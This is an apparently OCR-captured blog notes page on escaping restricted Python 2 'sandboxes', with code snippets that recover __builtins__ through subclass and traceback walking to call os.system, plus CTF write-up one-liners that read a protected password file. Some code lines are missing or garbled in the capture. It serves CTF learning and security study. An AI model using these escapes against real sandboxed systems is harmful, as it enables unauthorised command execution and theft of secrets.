Python "sandbox" escape (last update: 2021-07-05, created: 2013-05-06) back to the list ↑
So as I've recently learnt Python "sandbox" (as in removing _builtins_, and similar tricks) doesn't work. And it seems this is sometimes useful since different projects tend to use a Python "sandbox" anyway. So I decided to put some links / notes here.
(btw, this is about Python 2.6/2.7, not 3.X)

# Trick 1
If __builtins__ are removed, and import doesn't work, you can use this:classes = {}.__class__.__base__.__subclasses__()
b =classes[49]()._module.__builtins__
m = b['__import__']('os')
m.system("bla bla")

The 49 there is the index of warnings.catch_warnings class, however do note that the index might be totally different in your environment (and might change depending on what code was executed. I somewhat recall that on a different python version there was another warning-related class which has the same _module thing.
This basically solves the problem of missing import.

# Trick 2
Quite similar to Trick 1 actually, just a different class.

classes = {}.__class__.__base__.__subclasses__()

The 80 in this case is _frozen_importlib.BuiltinImporter (the index may vary of course).

# Trick 2
In this we get__builtins__ back by walking through the exception traceback information. The problem is that you need to be able to catch a named exception (unless you can send in bytecode instead of Python code, then this isn't a problem), and that in some cases the f_back is not defined for some reason.

  ""/5  # Throw TypeError
except Exception as e:  # In bytecode you don't need "Exception".
  builtins = e.__traceback__.tb_frame.f_back.f_globals["__builtins__"]

# See also
Basically any CTF writeup about python jail/sandbox escape.

The PlaidCTF 2014 had a _nightmare_ task where you could execute any code, but there was nothing in the environment except stdout.
It was solvable by accessing /proc/self/mem of the Python process and overwriting something. In our case we overwritten the fopen64 address in the .got/.plt with the address of system, and were able to run any command by just using type(stdout)("command").

Write-ups: (by q3k and me)On the 0x3004 CTF recently there was a different kind of task, which looked like this:

from sys import modules
del modules

__builtins__.dir = None
eval = None
input = None
execfile = None

LEN_PASS = len(open('./password','r').read()) # Length of Password
I_N_P_U_T = (  ) # only a-z0-9[]() and length of code must be <= 50P_A_S_S_W_O_R_D = open('./password','r').read()

assert LEN_PASS >= 1
assert LEN_PASS == len(I_N_P_U_T)
for i in range(LEN_PASS):
  if I_N_P_U_T[i] != P_A_S_S_W_O_R_D[i]:
    from sys import exit
    exit() # Wrongprint 'Here is your flag:',open('./flag','r').read()

I played with the task quite a lot but in the end didn't manage to solve it. The organizers said there were two solutions, both really sweet:

*Solution 1*: max(open([list(vars())[5]for(password)in[0]][0]))
It basically creates a new local variable called "password" (it's the newly defined iterator in the for loop), and then uses the name of this variable (that's the list(vars())[5] - the number here might vary; on the CTF server it was 8) as the name to open the ./password file. The max() there is used to read the data from the file; list(open(...))[0] would work as well, but max is shorter.
Lesson: you actually could create new variables here

*Solution 2*: [chr(53)for(vars()[list(vars())[0]])in[1]]
This one works by replacing the LEN_PASS variable with 1 (this is done by using the the LEN_PASS variable (hint: reference) - that's the vars()[list(vars())[0]] part - as a value-iterator for the [1] array; which basically means it sets it to 1) and then returning always a given character - in this case it was "5" (of course, you had to brute-force this character on the server).
Lesson: list-for can be used to set existing variables, even if they are access in a really strange way
【 design & art by Xa / Gynvael Coldwind 】 【 logo font(birdman regular) byutopiafonts / Dale Harris 】